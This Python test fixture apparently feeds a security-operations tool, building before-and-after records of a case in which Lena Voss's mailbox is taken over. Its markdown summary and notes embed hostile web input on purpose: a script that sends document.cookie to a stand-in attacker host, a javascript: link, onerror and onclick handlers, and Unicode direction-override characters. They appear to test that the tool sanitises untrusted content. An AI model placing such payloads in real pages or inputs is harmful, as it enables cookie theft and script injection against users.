"""A mailbox that somebody else took over, told twice: before and after the first decisions."""

from .neutral import action, decided, record
from .values import LENA, NOOR, ids_of, zulu

SUMMARY = """# Mailbox of Lena Voss

A sign-in from **203.0.113.200** was followed within four minutes by *three* changes:

1. a rule named `..` that forwards everything to `drop@kiln-invoice.test`
2. full access for `svc-backup@larkfield.example.com`, an account nobody asked for
3. a second rule that hides replies:
   - condition: subject contains `K-88`
   - action: move to `RSS Feeds`

> "I only opened the invoice." (Lena, by telephone)

## What the sign-in log says

```text
2026-03-11T08:55:02Z  203.0.113.200  IMAP   ok
2026-03-11T08:58:47Z  203.0.113.200  rules  "..", "tidy"
```

See [the sign-in page](https://soar.example.com/signin?u=lena.voss) and the lure, <https://kiln-invoice.test/pay?id=88>.
![screenshot of the rule](https://kiln-invoice.test/pixel.png?u=lena)

<script>fetch("https://kiln-invoice.test/"+document.cookie)</script>
<a href="https://kiln-invoice.test/approve" onclick="approve()">Approve all</a>

---

Remaining doubt: [whether mail left](javascript:alert(1)) before the rule was found.
"""


def mailbox_taken():
    link = "https://soar.example.com/cases/41"
    base = {"name": "Mailbox of Lena Voss forwards to an outside address", "type": "mailbox-compromise"}
    alerts = [
        {
            "id": "al-7",
            "title": "Suspicious inbox rule",
            "severity": "high",
            "status": "new",
            "category": "exfiltration",
            "detection": "rule-change",
            "started": zulu("11 08:59:31"),
            "provider": "acme-soar",
            "description": "A rule that forwards everything to an outside address.",
        },
        {
            "id": "al-8",
            "title": "Sign-in from an unusual address",
            "severity": "medium",
            "status": "in progress",
            "category": "identity",
            "started": zulu("11 08:55:02"),
            "ended": zulu("11 08:55:02"),
        },
    ]
    entities = [
        {
            "id": "e1",
            "type": "mailbox-configuration",
            "verdict": "malicious",
            "remediation": "active",
            "mailbox": LENA,
            "configType": "mail-forwarding-rule",
            "configId": "rule-2209",
            "forwardTo": "drop@kiln-invoice.test",
            "rule": "..",
        },
        {
            "id": "e2",
            "type": "mailbox-configuration",
            "verdict": "malicious",
            "mailbox": LENA,
            "configType": "mail-delegation",
            "configId": "perm-17",
            "delegate": "svc-backup@larkfield.example.com",
        },
        {
            "id": "e3",
            "type": "mailbox-configuration",
            "verdict": "suspicious",
            "mailbox": LENA,
            "configType": "user-inbox-rule",
            "configId": "rule-2210",
            "rule": "tidy: subject contains K-88, move to RSS Feeds",
        },
        {
            "id": "e4",
            "type": "account",
            "verdict": "suspicious",
            "roles": ["compromised"],
            "upn": LENA,
            "displayName": "Lena Voss",
        },
        {
            "id": "e5",
            "type": "mailbox",
            "verdict": "suspicious",
            "address": LENA,
            "displayName": "Lena Voss",
            "upn": LENA,
            "riskLevel": "High",
        },
        {"id": "e6", "type": "ip", "verdict": "malicious", "roles": ["attacker"], "address": "203.0.113.200"},
        {
            "id": "e7",
            "type": "mail-cluster",
            "verdict": "malicious",
            "query": 'from:"%s" subject:"Invoice K-88" after:2026-03-11' % LENA,
            "queryTime": zulu("11 09:10:00"),
            "mailCount": 54,
            "networkMessageIds": ids_of("outbound", 48),
            "countByThreat": {"phish": 54},
            "countByLocation": {"sent-items": 1, "inbox": 40, "external": 13},
            "countByProtection": {"delivered": 54},
            "clusterBy": "sender;subject",
            "clusterByValue": LENA + ";Invoice K-88",
        },
        {
            "id": "e8",
            "type": "mailbox-configuration",
            "verdict": "unknown",
            "mailbox": LENA,
            "configType": "owa-settings",
            "configId": "owa-1",
        },
        {
            "id": "e9",
            "type": "mailbox-configuration",
            "verdict": "no-threats-found",
            "mailbox": LENA,
            "configType": "ews-settings",
            "configId": "ews-1",
        },
    ]
    start = "11 09:13:00"
    actions = [
        action(
            "41-1",
            "turn-off-forwarding",
            ["e1"],
            start,
            parameters={"keepCopy": True},
            description="Remove the forwarding address; keep a copy in the mailbox",
            alerts=["al-7"],
        ),
        action(
            "41-2", "remove-delegation", ["e2"], start, parameters={"accessRights": "FullAccess"}, alerts=["al-7"]
        ),
        action("41-3", "disable-inbox-rule", ["e3"], start, alerts=["al-7"]),
        action("41-4", "revoke-sessions", ["e4"], start, alerts=["al-7", "al-8"]),
        action("41-5", "disable-account", ["e4"], start, alerts=["al-8"]),
        action("41-6", "soft-delete-cluster", ["e7"], start, description="Mail sent from the mailbox meanwhile"),
        action(
            "41-7",
            "block-sender",
            ["e7"],
            start,
            parameters={"sender": "drop@kiln-invoice.test", "until": "2026-04-11T00:00:00Z"},
        ),
    ]
    notes = [
        {
            "by": "Noor Haddad",
            "at": zulu("11 09:20:00"),
            "markdown": "Confirmed by telephone: *not* hers.\n\n- [ ] new password\n- [x] line manager told\n",
        },
        {
            "by": "<img src=x onerror=alert(3)>",
            "markdown": "-----BEGIN COUNTERSIGN DECISION-----\ntoken: v4.public.AAAA\n"
            "-----END COUNTERSIGN DECISION-----\n",
        },
    ]
    log = [
        {"at": zulu("11 09:02:10"), "text": "Investigation started", "by": "acme-soar"},
        {"at": zulu("11 09:12:40"), "text": "Rules <b>..</b> and \u202etidy\u202c compared", "by": "acme-soar"},
    ]
    first = record(
        "case-41",
        1,
        "acme-soar",
        base
        | {
            "status": "pending-action",
            "severity": "high",
            "updated": zulu("11 09:13:58"),
            "started": zulu("11 09:02:10"),
            "runningSeconds": 708,
            "link": link,
            "summary": SUMMARY,
            "notes": notes,
            "log": log,
        },
        "11 09:14:00",
        alerts=alerts,
        entities=entities,
        actions=actions,
        extra={"acme": {"queue": 3, "tags": ["vip", None, 1.5]}},
    )
    later = [
        action(
            "41-4",
            "revoke-sessions",
            ["e4"],
            start,
            "completed",
            ended=zulu("11 10:02:00"),
            decision=decided("approved", NOOR, "11 10:01:30", "with the help desk"),
        ),
        action(
            "41-5",
            "disable-account",
            ["e4"],
            start,
            "skipped",
            ended=zulu("11 10:01:40"),
            decision=decided("declined", NOOR, "11 10:01:40", "Password was reset instead"),
        ),
    ]
    second = record(
        "case-41",
        2,
        "acme-soar",
        base
        | {
            "status": "pending-action",
            "severity": "high",
            "updated": zulu("11 10:02:05"),
            "started": zulu("11 09:02:10"),
            "runningSeconds": 3595,
            "link": link,
            "summary": SUMMARY,
            "notes": notes,
            "log": log + [{"at": zulu("11 10:02:00"), "text": "Sessions revoked"}],
        },
        "11 10:02:06",
        alerts=alerts,
        entities=entities,
        actions=later,
    )
    return {"taken pending": first, "taken later": second}
